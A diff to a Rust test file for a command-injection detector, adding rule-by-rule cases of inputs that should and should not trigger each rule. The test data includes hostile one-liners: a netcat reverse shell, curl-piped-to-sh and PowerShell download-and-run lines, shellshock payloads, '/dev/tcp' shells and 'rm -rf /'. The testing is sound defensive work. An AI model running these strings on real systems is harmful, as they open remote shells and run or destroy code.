@@ -3,11 +3,12 @@
 use super::super::tests::{found as found_by, found_at};
 use super::*;
 
-/// What both analyzers of commands find.
+/// What all analyzers of commands find.
 fn found(text: &str) -> Vec<&'static str> {
-    let mut all = found_by(&ANALYZER, text);
-    all.extend(found_by(&IDIOMS, text));
-    all
+    let all = [&ANALYZER, &ALONE, &CALLS, &INVOCATIONS, &SCRIPTS];
+    all.into_iter()
+        .flat_map(|analyzer| found_by(analyzer, text))
+        .collect()
 }
 
 #[track_caller]
@@ -92,7 +93,6 @@ fn words_that_hide_a_program_are_found() {
             "nc 198.51.100.7 4444 -e /bin/sh",
             "curl http://a.example/x | sh",
             "echo aWQ= | base64 -d | bash",
-            "powershell -nop -e SQBFAFgA",
             "IEX(New-Object Net.WebClient).DownloadString('http://a.example')",
         ],
     );
@@ -175,7 +175,12 @@ fn padding_hides_nothing() {
 /// Known misses: a program that nobody knows, and commands that need no separator.
 #[test]
 fn unknown_programs_are_missed() {
-    for text in ["x;mytool", "id", "whoami"] {
+    for text in [
+        "x;mytool",
+        "id",
+        "1;openssl s_client -connect a:443",
+        "a=w;b=hoami;$a$b",
+    ] {
         assert_eq!(found(text), [""; 0], "{text}");
     }
 }
@@ -207,5 +212,185 @@ fn what_a_shell_takes_before_a_command_hides_none() {
         "k=v; time=5",
     ] {
         assert_eq!(found(text), [""; 0], "{text}");
+    }
+}
+
+/// Each rule with what it finds in a query, and what looks like that.
+#[test]
+fn every_rule_finds_its_attacks_and_spares_their_look_alikes() {
+    for (rule, fires, spares) in [
+        (
+            "computed_by_shell",
+            &["$((1+2))", "x$(( 40 * 2 ))"][..],
+            &["$((a))", "$(1+2)", "$((1))"][..],
+        ),
+        (
+            "run_and_replaced",
+            &["$(whoami)", "x=`id`", "`uname`", "\"`id`\""],
+            &["use `less`, please", "$(document).ready", "a (cat) b"],
+        ),
+        (
+            "function_import",
+            &[
+                "() { :;}; id",
+                "() { x;};echo",
+                "() { (a)=>\\ id",
+                "() { _; } >_[$($())] { id; }",
+                "x() { :;};",
+            ],
+            &["fn() { x }", "() => { y; }", "a () {", "f(){ return 1; }"],
+        ),
+        (
+            "interpreter_call",
+            &[
+                "system('id')",
+                "exec(`x`)",
+                "os.system('x')",
+                "print(`echo a`)",
+                "${proc_open(print",
+                "';print(`id`);//",
+                "subprocess.run(['id'])",
+                "require('child_process')",
+                "eval($_GET[0])",
+                "phpinfo()",
+                "system( '/usr/bin/id' )",
+            ],
+            &[
+                "system (old)",
+                "exec('query')",
+                "the print('x') call",
+                "blueprint('cat')",
+                "subprocess.run",
+                "phpinfo",
+            ],
+        ),
+        (
+            "value_is_command",
+            &[
+                "/bin/cat x",
+                ";/usr/bin/id",
+                "|/bin/sh",
+                "whoami",
+                "cat /etc/x",
+                "uname -a",
+                "sleep 5",
+                "perl -e 'print 1'",
+                "ls -l /home/*",
+                "phpinfo();",
+                "rm -rf /",
+                "net user",
+            ],
+            &[
+                "the /bin/cat file",
+                "/bing/cat",
+                "cabin/cat",
+                "who am i",
+                "cat food",
+                "ls",
+                "sleep well",
+                "type 2 diabetes",
+                "/usr/bin/env python",
+                "net user interface",
+                "phpinfo",
+                "ping pong table",
+            ],
+        ),
+        (
+            "remote_shell",
+            &[
+                "/dev/tcp/a/1",
+                "nc -e /bin/sh x",
+                "nc -lvp 4444 x",
+                "python -c 'import",
+                "ruby -rsocket -e 'x'",
+                "x | sh",
+                "socat tcp:a:1 exec:sh",
+                "mkfifo /tmp/f",
+            ],
+            &[
+                "dev/tcpdump",
+                "python is",
+                "nice -e",
+                "x | shell",
+                "ruby -version",
+                "bash -in",
+            ],
+        ),
+        (
+            "windows_command",
+            &[
+                "cmd /c dir",
+                "powershell -enc x",
+                "net user a /add",
+                "reg query hklm",
+            ],
+            &[
+                "command /c",
+                "the net user",
+                "powershell guide",
+                "net user a",
+            ],
+        ),
+        (
+            "download",
+            &["wget http://x", "curl -s https://x", "tftp 192.0.2.1 x"],
+            &[
+                "curly https://x",
+                "wget is",
+                "fetch the ball",
+                "curl 8.5.0 is out",
+            ],
+        ),
+        (
+            "further_command",
+            &[
+                "a|id|", ";ls", "&&pwd", "; id", "a|id", "| id", "& id", "\nid\n", "x;id #",
+            ],
+            &[
+                "id",
+                "a&id=1",
+                "rock & roll",
+                "time & date",
+                "name|id",
+                "title|date",
+            ],
+        ),
+        (
+            "shell_control",
+            &[
+                "if [ 1 -eq 1 ]; then x; fi",
+                "x=$(echo a)",
+                "; for i in 1; do x",
+                "s=${#str};",
+                "a; then b; fi",
+            ],
+            &[
+                "if [you] then",
+                "for a while",
+                "do this; then that",
+                "wait; then, if all is well",
+            ],
+        ),
+        (
+            "redirection",
+            &["cat</etc/x", "x >/tmp/y", "2>&1", "x | tee", "<(id)"],
+            &["a > b", "<b>sh</b>", "x | shell", "1 < 2", "a->b", "<a>/b"],
+        ),
+        (
+            "variable_for_blank",
+            &["cat$IFS/x", "{cat,/etc/x}"],
+            &["$if", "gifs", "{cat, dog}", "{a,b}"],
+        ),
+    ] {
+        for text in fires {
+            assert!(
+                found(text).contains(&rule),
+                "{rule}: {text}: {:?}",
+                found(text)
+            );
+        }
+        for text in spares {
+            assert!(!found(text).contains(&rule), "{rule}: {text}");
+        }
     }
 }
